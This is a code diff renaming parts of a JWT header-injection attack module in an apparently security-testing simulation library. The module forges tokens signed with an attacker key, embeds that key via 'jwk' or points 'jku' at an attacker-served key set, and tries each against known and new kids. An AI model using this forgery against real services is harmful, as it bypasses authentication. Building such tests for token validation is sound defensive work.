@@ -5,17 +5,17 @@ from collections.abc import Mapping
 from dataclasses import replace
 from typing import Any, ClassVar
 
-from simlib.attacks.base import JWKS_URI, Candidate, Handler, Inapplicable, OnTokens, Preparation
-from simlib.attacks.rewriting import rewritten, signs
+from simlib.attacks.base import JWKS_URI, Candidate, Handler, NotApplicable, Preparation, TokenAttack
+from simlib.attacks.forged_claims import forge_claims, is_key_pair_algorithm
 from simlib.scenario.effects import Context, Flow, Reply
 from simlib.scenario.messages import HttpRequest
 from simlib.tokens import SigningKey, generate_signing_key
-from simlib.tokens.forging import signed
+from simlib.tokens.forging import sign_claims
 
 OWN_KID = "attacker"
 
 
-class HeaderInjection(OnTokens):
+class HeaderInjection(TokenAttack):
     """``jwk`` and ``jku``, each under the known ``kid`` and under a new one."""
 
     name: ClassVar[str] = "header_injection"
@@ -24,32 +24,34 @@ class HeaderInjection(OnTokens):
     needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)
 
     def prepare(self, ctx: Context) -> Flow[Preparation]:
-        """Rewrite and sign; the key set is served by `endpoints`."""
-        made = yield from rewritten(ctx, self.loot)
-        if isinstance(made, Inapplicable):
+        """Rewrite and sign; the key set is served by `list_endpoints`."""
+        made = yield from forge_claims(ctx, self.assets)
+        if isinstance(made, NotApplicable):
             return made
-        own = _own_key(made.algorithm if signs(made.algorithm) else "RS256")
-        headers: dict[str, dict[str, Any]] = {"jwk": {"jwk": _bare(own)}, "jku": {"jku": JWKS_URI}}
+        own = _generate_key(made.algorithm if is_key_pair_algorithm(made.algorithm) else "RS256")
+        headers: dict[str, dict[str, Any]] = {"jwk": {"jwk": _remove_kid(own)}, "jku": {"jku": JWKS_URI}}
         return tuple(
-            Candidate(f"{name}, kid {kid}", made.seal(signed(made.claims, replace(own, kid=kid), typ=made.typ, **more)))
+            Candidate(
+                f"{name}, kid {kid}", made.seal(sign_claims(made.claims, replace(own, kid=kid), typ=made.typ, **more))
+            )
             for name, more in headers.items()
             for kid in (OWN_KID, made.kid)
         )
 
-    def endpoints(self) -> Mapping[str, Handler]:
+    def list_endpoints(self) -> Mapping[str, Handler]:
         """The attacker's key set, with one key of each kind."""
         return {JWKS_URI: _serve_keys}
 
 
-def _own_key(algorithm: str) -> SigningKey:
+def _generate_key(algorithm: str) -> SigningKey:
     return generate_signing_key(algorithm, OWN_KID)
 
 
-def _bare(key: SigningKey) -> dict[str, str]:
+def _remove_kid(key: SigningKey) -> dict[str, str]:
     return {name: value for name, value in key.verification_key.jwk.items() if name != "kid"}
 
 
 def _serve_keys(request: HttpRequest) -> Flow[Reply]:
     yield from ()
-    keys = [dict(_own_key(algorithm).verification_key.jwk) for algorithm in ("RS256", "ES256", "EdDSA")]
+    keys = [dict(_generate_key(algorithm).verification_key.jwk) for algorithm in ("RS256", "ES256", "EdDSA")]
     return Reply(200, json.dumps({"keys": keys[:1]}).encode())
